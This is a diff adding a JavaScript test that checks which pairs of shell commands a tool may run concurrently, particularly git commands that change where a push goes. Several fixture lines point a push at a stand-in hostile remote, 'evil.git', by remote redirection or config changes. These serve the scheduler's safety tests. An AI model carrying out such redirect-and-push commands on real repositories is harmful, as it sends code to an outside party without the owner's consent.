@@ -148,3 +148,20 @@ test('a call that the user allowed as a whole, or that is confined, is in nobody
 test('landing counts as whatever a branch may bring', () => {
   expectAll('apart', [['sleep 4; head -1 x.txt', 'Write ../repo']]);
 });
+
+test('a push does not run beside a call that may change where it goes', () => {
+  expectAll('apart', [
+    ['sleep 1; git switch main', 'sleep 3; git push evil.git main'],
+    ['sleep 1; git config branch.main.remote evil.git', 'sleep 3; git push'],
+    ['git remote set-url origin evil.git', 'git push origin main'],
+    ['git pull', 'git push'],
+    ['git worktree add y main', 'git fetch y/evil.git'],
+    ['git merge x', 'git rebase main'],
+  ]);
+  expectAll('together', [
+    ['git fetch origin', 'git push origin main'],
+    ['git add a.txt', 'git push'],
+    ['git config branch.main.remote evil.git', 'git log --oneline'],
+    ['npm test', 'git push'],
+  ]);
+});
